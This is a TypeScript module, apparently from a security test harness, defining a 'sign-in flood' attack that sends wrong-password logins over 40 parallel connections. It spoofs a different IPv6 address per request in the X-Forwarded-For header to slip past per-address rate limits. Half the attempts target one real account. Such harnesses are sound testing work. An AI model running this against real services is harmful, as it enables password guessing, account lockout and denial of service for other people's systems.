import type { Attack } from './attack.ts';

const CONNECTIONS = 40;

/**
 * Signs in with wrong passwords over 40 connections. Each request claims an IPv6 network of its own, which a server
 * believes that has this machine in `TRUSTED_PROXIES`: so no limit per address stops it.
 */
export const signInFlood: Attack = {
  name: 'sign-in flood',
  async run({ url, person }, signal) {
    const counts = new Map<number, number>();
    let sent = 0;
    const flood = async () => {
      while (!signal.aborted) {
        sent += 1;
        const network = `2001:db8:${(sent >> 16).toString(16)}:${(sent & 0xffff).toString(16)}::1`;
        // Every other request guesses the same account, the rest accounts that do not exist.
        const email = sent % 2 === 0 ? person.email : `nobody${sent}@example.com`;
        const status = await trySignIn(url, { email, password: 'a wrong password' }, network, signal);
        counts.set(status, (counts.get(status) ?? 0) + 1);
      }
    };
    await Promise.all(Array.from({ length: CONNECTIONS }, flood));
    const answers = [...counts].map(([status, count]) => `${count} x ${status || 'no answer'}`).join(', ');
    return `sign-in flood: ${sent} requests, ${answers}`;
  },
};

/** Returns the status of the answer; 0 without one. */
async function trySignIn(
  url: string,
  body: { email: string; password: string },
  network: string,
  signal: AbortSignal,
): Promise<number> {
  const headers = {
    origin: new URL(url).origin,
    'content-type': 'application/json',
    'x-forwarded-for': network,
  };
  try {
    const init = { method: 'POST', headers, body: JSON.stringify(body), signal };
    const response = await fetch(`${url}/app/v1/sign-in`, init);
    await response.arrayBuffer();
    return response.status;
  } catch {
    return 0;
  }
}
